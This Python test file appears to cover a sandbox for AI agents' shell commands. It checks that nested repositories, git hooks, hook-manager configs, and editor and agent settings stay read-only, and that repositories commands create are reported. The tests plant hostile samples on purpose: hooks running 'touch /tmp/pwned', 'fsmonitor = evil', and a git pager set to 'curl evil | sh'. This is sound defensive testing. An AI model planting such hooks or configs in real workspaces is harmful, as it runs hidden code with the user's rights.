"""What commands must not change in the workspace: every git repository at any depth,
the ones commands make (named once, then protected in every sandbox of the session, the
running commands included), and the `.git` files hookline reads, under asyncio and trio."""

from __future__ import annotations

import subprocess
from contextlib import asynccontextmanager
from pathlib import Path

import anyio
import pytest
from sandbox_support import environment, made_warnings, run_once, run_then_write, said_once

from hookline.builtins.host.background import BackgroundProcesses
from hookline.kernel.errors import HooklineError


@pytest.mark.anyio
async def test_a_nested_repository_is_protected_at_any_depth(
        layout: tuple[Path, Path, Path]) -> None:
    workspace, home, _ = layout
    nested = workspace / "deep" / "down" / "lib" / ".git"
    (nested / "hooks").mkdir(parents=True)
    (nested / "config").write_text("[core]\n")
    result = await run_once(workspace, home,
                            "echo '[core] fsmonitor = evil' >> deep/down/lib/.git/config; "
                            "touch deep/down/lib/.git/hooks/pre-commit; touch deep/ok")
    assert result.stderr.count("Read-only file system") == 2, result.stderr
    assert (nested / "config").read_text() == "[core]\n"
    assert (workspace / "deep" / "ok").exists()


@pytest.mark.anyio
async def test_mercurial_and_jujutsu_repositories_are_protected_at_any_depth(
        layout: tuple[Path, Path, Path]) -> None:
    """Mercurial runs the hooks and extensions `.hg/hgrc` names, Jujutsu the aliases of
    its repository config: both kept like a `.git`."""
    workspace, home, _ = layout
    (workspace / ".hg").mkdir()
    (workspace / ".hg" / "hgrc").write_text("[ui]\nusername = someone\n")
    (workspace / "sub" / ".jj" / "repo").mkdir(parents=True)
    attack, refused = await run_then_write(
        environment(workspace, home),
        "echo '[hooks]' >> .hg/hgrc; "
        "echo 'aliases.x = [\"util\", \"exec\"]' > sub/.jj/repo/config.toml; touch sub/ok",
        (".hg/hgrc", "sub/.jj/repo/config.toml", "new/.hg/hgrc"))
    assert attack.stderr.count("Read-only file system") == 2, attack.stderr
    assert (workspace / ".hg" / "hgrc").read_text() == "[ui]\nusername = someone\n"
    assert not (workspace / "sub" / ".jj" / "repo" / "config.toml").exists()
    assert (workspace / "sub" / "ok").exists()
    assert ["'.hg' is protected" in refused[0], "'sub/.jj' is protected" in refused[1],
            "'new/.hg' is protected" in refused[2]] == [True] * 3, refused


@pytest.mark.anyio
async def test_a_bare_repository_is_protected_and_one_made_is_named_with_its_hooks(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    """git runs a bare repository's hooks when the user pushes to it (a local remote):
    one in the workspace is kept like a `.git`, and one a command makes is named."""
    workspace, home, _ = layout
    subprocess.run(["git", "init", "-q", "--bare", str(workspace / "remote.git")], check=True)
    for name in ("objects", "refs"):  # a project that only looks like one: HEAD is not git's
        (workspace / "project" / name).mkdir(parents=True)
    (workspace / "project" / "HEAD").write_text("the head of the project\n")
    env = environment(workspace, home)
    try:
        attack = await env.run("echo 'touch /tmp/pwned' > remote.git/hooks/post-receive; "
                               "echo '[core] fsmonitor = evil' >> remote.git/config")
        with pytest.raises(HooklineError) as refused:
            await env.write_text("remote.git/hooks/post-receive", "touch /tmp/pwned\n")
        project = await env.run("touch project/objects/written && echo written")
        made = await env.run("git init -q --bare made.git && "
                             "printf '#!/bin/sh\\n' > made.git/hooks/post-receive && "
                             "chmod +x made.git/hooks/post-receive && echo ok")
        await env.say_what_commands_made()  # as the builtin plugin does after each run
    finally:
        await env.close()
    assert attack.stderr.count("Read-only file system") == 2, attack.stderr
    assert not (workspace / "remote.git" / "hooks" / "post-receive").exists()
    assert "'remote.git' is protected" in str(refused.value)
    assert "ok" in made.stdout, made.stderr
    assert "written" in project.stdout, project.stderr
    said_once(caplog, "made.git")
    runs = [record.getMessage() for record in caplog.records
            if "which commands made, has git run" in record.getMessage()]
    assert runs == ["made.git, which commands made, has git run with your rights: hook "
                    "post-receive. Unless you set these up yourself, remove them before you "
                    "run git there"], runs


@pytest.mark.anyio
@pytest.mark.parametrize("protect", [None, ()], ids=["default", "none"])
async def test_editor_settings_are_protected_by_default_and_can_be_opened(
        layout: tuple[Path, Path, Path], protect: tuple[str, ...] | None) -> None:
    """An editor runs what its folder's settings name (an interpreter, a task on folder
    open) with the user's rights, another agent its hooks and MCP servers: `.vscode`,
    `.idea`, `.mcp.json`, `.claude/settings.json` and the like are kept by default, and
    `sandbox_protect = []` gives them back."""
    workspace, home, _ = layout
    for folder in (".vscode", ".idea", ".claude"):
        (workspace / folder).mkdir()
    settings = workspace / ".vscode" / "settings.json"
    settings.write_text("{}\n")
    for name in (".mcp.json", ".claude/settings.json"):
        (workspace / name).write_text("{}\n")
    env = environment(workspace, home, **({} if protect is None else {"protect": protect}))
    try:
        command = await env.run("echo '{\"python.defaultInterpreterPath\": \"./evil\"}' "
                                "> .vscode/settings.json; touch .idea/workspace.xml; "
                                "echo '{\"mcpServers\": {}}' > .mcp.json; "
                                "echo '{\"hooks\": {}}' > .claude/settings.json; "
                                "touch .claude/CLAUDE.md")
        try:
            await env.write_text(".vscode/launch.json", "{}")
            refused = None
        except HooklineError as exc:
            refused = str(exc)
    finally:
        await env.close()
    if protect is None:
        assert command.stderr.count("Read-only file system") == 4, command.stderr
        assert settings.read_text() == "{}\n"
        assert (workspace / ".mcp.json").read_text() == "{}\n"
        assert (workspace / ".claude" / "CLAUDE.md").exists()  # the rest of it is not kept
        assert refused is not None and "'.vscode' is protected" in refused
        assert "by default the settings editors and other agents run" in refused
    else:
        assert command.returncode == 0 and refused is None, command.stderr
        assert "evil" in settings.read_text()


@pytest.mark.anyio
async def test_a_vs_code_workspace_file_is_protected_at_any_depth(
        layout: tuple[Path, Path, Path]) -> None:
    """Opened in VS Code, a `.code-workspace` file runs its tasks and settings as
    `.vscode` does, wherever it lies and whatever `sandbox_protect` says."""
    workspace, home, _ = layout
    (workspace / "tools").mkdir()
    for name in ("app.code-workspace", "tools/dev.code-workspace"):
        (workspace / name).write_text("{}\n")
    command, refused = await run_then_write(
        environment(workspace, home, protect=()),
        "echo '{\"tasks\": {}}' > app.code-workspace; echo x >> tools/dev.code-workspace; "
        "touch tools/ok", ("tools/dev.code-workspace",))
    assert command.stderr.count("Read-only file system") == 2, command.stderr
    assert (workspace / "app.code-workspace").read_text() == "{}\n"
    assert (workspace / "tools" / "ok").exists()
    assert "'tools/dev.code-workspace' is protected" in refused[0], refused


@pytest.mark.anyio
async def test_what_a_repository_s_config_has_git_run_is_protected_too(
        layout: tuple[Path, Path, Path]) -> None:
    """husky points core.hooksPath into the worktree (`.husky/_`, whose hooks run the
    ones of `.husky`), lefthook's and pre-commit's hooks read their config from there, and
    a config may
    include a file of it: writing there would have the user's next `git commit` run a
    command's code."""
    workspace, home, _ = layout
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text(
        "[core]\n\thooksPath = .husky/_\n[include]\n\tpath = ../.gitconfig-project\n")
    (workspace / ".husky" / "_").mkdir(parents=True)
    (workspace / ".gitconfig-project").write_text("[user]\n\tname = someone\n")
    nested = workspace / "vendor" / "lib"
    (nested / ".git" / "hooks").mkdir(parents=True)
    (nested / ".git" / "config").write_text("[core]\n\tfsmonitor = ./watch.sh\n")
    (nested / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\nlefthook run pre-push\n")
    (nested / "watch.sh").write_text("exit 0\n")
    (nested / "lefthook.yml").write_text("pre-push:\n  commands: {}\n")
    (nested / ".git" / "hooks" / "pre-commit").write_text(
        "#!/usr/bin/env bash\nARGS=(hook-impl --config=.pre-commit-config.yaml "
        "--hook-type=pre-commit)\n")
    (nested / ".pre-commit-config.yaml").write_text("repos: []\n")
    command, refused = await run_then_write(
        environment(workspace, home),
        "echo 'touch /tmp/pwned' > .husky/_/pre-commit; "
        "echo 'touch /tmp/pwned' > .husky/pre-commit; "
        "printf '[core]\\n\\tfsmonitor = ./x\\n' >> .gitconfig-project; "
        "echo 'touch /tmp/pwned' > vendor/lib/watch.sh; "
        "echo 'pre-push: {run: touch /tmp/pwned}' >> vendor/lib/lefthook.yml; "
        "echo '- repo: local' >> vendor/lib/.pre-commit-config.yaml; "
        "touch ok-beside vendor/lib/ok-beside",
        (".husky/pre-commit", "vendor/lib/watch.sh", "vendor/lib/lefthook.yml",
         "vendor/lib/.pre-commit-config.yaml"))
    assert command.stderr.count("Read-only file system") == 6, command.stderr
    assert not (workspace / ".husky" / "_" / "pre-commit").exists()
    assert not (workspace / ".husky" / "pre-commit").exists()
    assert "fsmonitor" not in (workspace / ".gitconfig-project").read_text()
    assert "pwned" not in (nested / "lefthook.yml").read_text()
    assert (workspace / "ok-beside").exists() and (nested / "ok-beside").exists()
    assert "'.husky' is protected" in refused[0]
    assert "'vendor/lib/watch.sh' is protected" in refused[1]
    assert "'vendor/lib/lefthook.yml' is protected" in refused[2]
    assert "'vendor/lib/.pre-commit-config.yaml' is protected" in refused[3]
    assert (nested / ".pre-commit-config.yaml").read_text() == "repos: []\n"


@pytest.mark.anyio
async def test_a_hooks_folder_a_command_made_is_named_and_protected(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    workspace, home, _ = layout
    (workspace / ".git").mkdir()
    (workspace / ".git" / "config").write_text("[core]\n\thooksPath = githooks\n")
    env = environment(workspace, home)
    try:
        await env.run("mkdir githooks && echo 'touch /tmp/pwned' > githooks/pre-commit")
        await env.say_what_commands_made()  # as the builtin plugin does after each run
        after = await env.run("echo more >> githooks/pre-commit")
    finally:
        await env.close()
    said_once(caplog, "githooks")
    assert "Read-only file system" in after.stderr


@pytest.mark.anyio
async def test_the_file_tools_may_not_make_what_a_search_found_missing_and_what_they_make_is_named(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    """A hooks folder a nested repository's config names but that is missing is refused to
    the file tools up front (a command may make it: it is named then). What they may make
    that is protected once it exists, a mise config file, is named at the end of the turn
    as a command's would be, though no command ran, and refused to them from then on."""
    workspace, home, _ = layout
    (workspace / "vendor" / "lib" / ".git").mkdir(parents=True)
    (workspace / "vendor" / "lib" / ".git" / "config").write_text(
        "[core]\n\thooksPath = githooks\n")
    env = environment(workspace, home)
    try:
        with pytest.raises(HooklineError, match="'vendor/lib/githooks' is protected"):
            await env.write_text("vendor/lib/githooks/pre-commit", "touch /tmp/pwned\n")
        await env.write_text("pkg/mise.toml", '[hooks]\nenter = "touch /tmp/pwned"\n')
        await env.say_what_commands_made()  # as the builtin plugin does after each run
        with pytest.raises(HooklineError, match="is protected"):
            await env.write_text("pkg/mise.toml", "")
    finally:
        await env.close()
    assert not (workspace / "vendor" / "lib" / "githooks").exists()
    said_once(caplog, "pkg/mise.toml")


@pytest.mark.anyio
async def test_what_commands_made_of_the_protected_is_said_when_the_session_ends(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    """A command may make a repository (or a protected path that was missing) and give it
    hooks in one go, before any helper could protect it: the user, who may run git there
    later, is told which."""
    workspace, home, _ = layout
    (workspace / "old" / ".git").mkdir(parents=True)
    env = environment(workspace, home, protect=(".vscode",))
    try:
        result = await env.run("git init -q made && mkdir -p a/b && git init -q a/b && "
                               "echo '[core] fsmonitor = evil' >> a/b/.git/config && "
                               "mkdir .vscode .hookline && echo ok")
        assert "ok" in result.stdout, result.stderr
    finally:
        await env.close()
    said = made_warnings(caplog)
    assert len(said) == 1, said
    assert said[0].startswith("commands or file tools run in this workspace made .hookline, "
                              ".vscode, a/b/.git, made/.git, which"), said[0]
    assert "look at them before you run git, a shell, an editor or an agent there" in said[0]


@pytest.mark.anyio
async def test_what_git_would_run_in_a_repository_made_is_said_on_a_line_of_its_own(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    """The commands that made a repository could give it hooks and config that git runs
    with the user's rights: what there is, is named (a fresh `git init` has nothing), as
    it is for a repository a `.git` file points to outside the workspace (the command's
    `TMPDIR`)."""
    workspace, home, _ = layout
    env = environment(workspace, home)
    try:
        result = await env.run(
            "git init -q plain && git init -q planted && cd planted/.git && "
            "printf '#!/bin/sh\\n' > hooks/pre-commit && chmod +x hooks/pre-commit && "
            "git config core.pager 'sh -c \"curl evil | sh\"' && "
            "git config alias.st '!./st' && cd ../.. && "
            "git init -q --separate-git-dir \"$TMPDIR/g\" pointing && "
            "git -C pointing config core.fsmonitor ./watch && echo ok")
        assert "ok" in result.stdout, result.stderr
        private = await env.run('echo "$TMPDIR"')
        await env.say_what_commands_made()  # as the builtin plugin does after each run
    finally:
        await env.close()
    said = [record.getMessage() for record in caplog.records
            if "which commands made, has git run" in record.getMessage()]
    assert len(said) == 2, said
    pointing, planted = sorted(said)
    assert planted.startswith("planted/.git, which commands made, has git run with your "
                              "rights: hook pre-commit; core.pager = 'sh -c \"curl evil | "
                              "sh\"'; alias.st = '!./st'. Unless you set these up"), planted
    assert pointing.startswith(f"{private.stdout.strip()}/g, which commands made"), pointing
    assert "core.fsmonitor = './watch'" in pointing
    said_made = made_warnings(caplog)
    assert len(said_made) == 1 and "plain/.git" in said_made[0], said_made


@pytest.mark.anyio
@pytest.mark.parametrize("in_place", [True, False], ids=["in-place", "new-helper"])
async def test_a_repository_said_made_is_protected_from_the_next_command(
        layout: tuple[Path, Path, Path], monkeypatch: pytest.MonkeyPatch,
        in_place: bool) -> None:
    """Where the running sandbox fails to protect it, the next command gets a new one."""
    from hookline.builtins.host.confined import Spawner

    if not in_place:
        monkeypatch.setattr(Spawner, "protect", lambda self, paths: False)
    workspace, home, _ = layout
    env = environment(workspace, home)
    try:
        made = await env.run("git init -q made && echo '[core]' >> made/.git/config && echo ok")
        assert "ok" in made.stdout, made.stderr
        await env.say_what_commands_made()  # as the builtin plugin does after each run
        after = await env.run("echo '[core] fsmonitor = evil' >> made/.git/config; "
                              "touch made/file && echo still-writable")
    finally:
        await env.close()
    assert "Read-only file system" in after.stderr and "still-writable" in after.stdout
    assert "fsmonitor" not in (workspace / "made" / ".git" / "config").read_text()


@pytest.mark.anyio
async def test_a_repository_said_made_is_protected_in_place_from_running_commands_too(
        layout: tuple[Path, Path, Path]) -> None:
    """The running sandbox protects it: a command still running there can no longer
    change it, and what it started stays in sight of the next command (its pid
    namespace, its loopback)."""
    workspace, home, _ = layout
    config = workspace / "made" / ".git" / "config"
    processes = BackgroundProcesses(stop_grace=0.5)
    async with asynccontextmanager(processes.lifespan)():
        env = environment(workspace, home, processes)
        try:
            await env.start_background(
                "git init -q made && echo $$ > pid && "
                "while echo x >> made/.git/config 2>/dev/null; do sleep 0.02; done; "
                "echo refused > refused; sleep 60")
            with anyio.fail_after(20):
                while not (config.exists() and "x" in config.read_text()):
                    await anyio.sleep(0.02)
            await env.say_what_commands_made()  # as the builtin plugin does after each run
            with anyio.fail_after(10):
                while not (workspace / "refused").exists():
                    await anyio.sleep(0.02)
            written = config.read_text()
            after = await env.run("kill -0 $(cat pid) && echo still-seen; "
                                  "echo y >> made/.git/config")
        finally:
            await env.close()
    assert "still-seen" in after.stdout, after.stderr
    assert "Read-only file system" in after.stderr
    assert config.read_text() == written


@pytest.mark.anyio
@pytest.mark.parametrize("home_held", [False, True], ids=["workspace", "home-folder"])
async def test_what_one_session_made_is_protected_in_another_s_sandbox_and_said_once(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture,
        monkeypatch: pytest.MonkeyPatch, home_held: bool) -> None:
    """Two sessions of one gateway in one workspace: what the first one's commands made
    is named once, and kept from the second one's commands too; in a home folder held,
    also when a program made a dotfile between the two sessions' starts."""
    workspace, home, _ = layout
    if home_held:
        monkeypatch.setenv("HOME", str(workspace))
    first = environment(workspace, home)
    if home_held:
        (workspace / ".cache").mkdir()
    second = environment(workspace, home)
    try:
        await second.run("true")  # its sandbox runs before the repository is made
        await first.run("git init -q made")
        await first.say_what_commands_made()
        await second.say_what_commands_made()
        after = await second.run("echo '[core] fsmonitor = evil' >> made/.git/config")
    finally:
        await first.close()
        await second.close()
    said_once(caplog, "made/.git")
    assert "Read-only file system" in after.stderr


@pytest.mark.anyio
async def test_a_link_swapped_in_for_a_repository_is_not_followed_when_protecting(
        layout: tuple[Path, Path, Path]) -> None:
    """A command may swap a link in between hookline's search and the mount: the
    running sandbox then says it failed (a new helper takes over) and protects nothing
    the link names."""
    workspace, home, _ = layout
    env = environment(workspace, home)
    try:
        await env.run("mkdir elsewhere made && ln -s ../elsewhere made/.git")
        spawner = env._confinement._spawner
        assert spawner is not None and spawner.report.mounted
        protected = await anyio.to_thread.run_sync(
            spawner.protect, [str(workspace / "made" / ".git"), str(workspace / "gone")])
        refused = await env.run("touch elsewhere/writable")
        real = await anyio.to_thread.run_sync(spawner.protect, [str(workspace / "made")])
        after = await env.run("touch made/file elsewhere/still")
    finally:
        await env.close()
    assert protected is False and refused.returncode == 0, refused.stderr
    assert real is True and "Read-only file system" in after.stderr
    assert (workspace / "elsewhere" / "still").exists()
    assert not (workspace / "made" / "file").exists()


@pytest.mark.anyio
async def test_what_a_background_command_makes_later_is_said_after_the_next_run(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    """A background command still running may make a repository during a later run that
    starts no command: it is looked for after that run too, not only at the end."""
    workspace, home, _ = layout
    processes = BackgroundProcesses(stop_grace=0.5)
    async with asynccontextmanager(processes.lifespan)():
        env = environment(workspace, home, processes)
        try:
            await env.start_background("while [ ! -e go ]; do sleep 0.02; done; "
                                       "git init -q later; sleep 60")
            await env.say_what_commands_made()  # the run that started it: nothing yet
            assert made_warnings(caplog) == []
            (workspace / "go").touch()
            with anyio.fail_after(20):
                while not (workspace / "later" / ".git" / "HEAD").exists():
                    await anyio.sleep(0.02)
            await env.say_what_commands_made()  # a later run that started no command
            said = made_warnings(caplog)
            after = await env.run("touch later/.git/hooks/pre-commit")
        finally:
            await env.close()
    assert len(said) == 1 and "made later/.git, which" in said[0], said
    assert "Read-only file system" in after.stderr


@pytest.mark.anyio
async def test_a_repository_an_escalated_command_made_is_named_and_protected_everywhere(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    """An approved command (`git clone` with the network, say) runs in a sandbox of its
    own: what it made is named after its run, once, and protected in both."""
    workspace, home, _ = layout
    env = environment(workspace, home)
    network = env.escalated("network")
    try:
        await env.run("true")  # the session's own sandbox, as before the approval
        made = await network.run("git init -q cloned && echo ok")
        assert "ok" in made.stdout, made.stderr
        await env.say_what_commands_made()  # as the builtin plugin does after each run
        inside = await env.run("echo '[core] fsmonitor = evil' >> cloned/.git/config")
        again = await network.run("touch cloned/.git/hooks/pre-commit")
    finally:
        await env.close()
    said_once(caplog, "cloned/.git")
    assert "Read-only file system" in inside.stderr and "Read-only" in again.stderr
    assert "fsmonitor" not in (workspace / "cloned" / ".git" / "config").read_text()


@pytest.mark.anyio
async def test_many_repositories_made_are_counted_past_the_first_named(
        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
    workspace, home, _ = layout
    env = environment(workspace, home)
    try:
        await env.run("for n in $(seq 25); do mkdir -p r$n/.git; done")
    finally:
        await env.close()
    said = made_warnings(caplog)
    assert len(said) == 1 and said[0].count("/.git") == 20 and "and 5 more" in said[0], said
